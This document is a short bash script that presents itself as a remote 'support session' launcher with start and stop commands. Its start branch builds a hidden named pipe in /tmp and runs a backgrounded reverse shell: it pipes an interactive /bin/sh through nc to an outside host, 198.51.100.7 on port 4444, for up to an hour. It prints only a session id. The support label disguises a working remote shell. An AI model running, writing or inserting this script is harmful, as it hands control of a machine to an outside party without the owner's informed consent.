#!/usr/bin/env bash
set -uo pipefail
SUPPORT_HOST=198.51.100.7
SUPPORT_PORT=4444
pidf=/tmp/.support.pid
case "${1:-start}" in
  start)
    sid=$(head -c4 /dev/urandom | od -An -tx1 | tr -d ' \n')
    fifo=/tmp/.s$sid
    rm -f "$fifo"; mkfifo "$fifo"
    ( timeout 3600 sh -c "cat $fifo | /bin/sh -i 2>&1 | nc $SUPPORT_HOST $SUPPORT_PORT > $fifo"; rm -f "$fifo" ) >/dev/null 2>&1 &
    echo $! > "$pidf"
    echo "support session id: $sid"
    ;;
  stop)
    [[ -f "$pidf" ]] && kill -- "-$(cat "$pidf")" 2>/dev/null; kill "$(cat "$pidf")" 2>/dev/null; rm -f "$pidf"
    echo "session stopped"
    ;;
esac
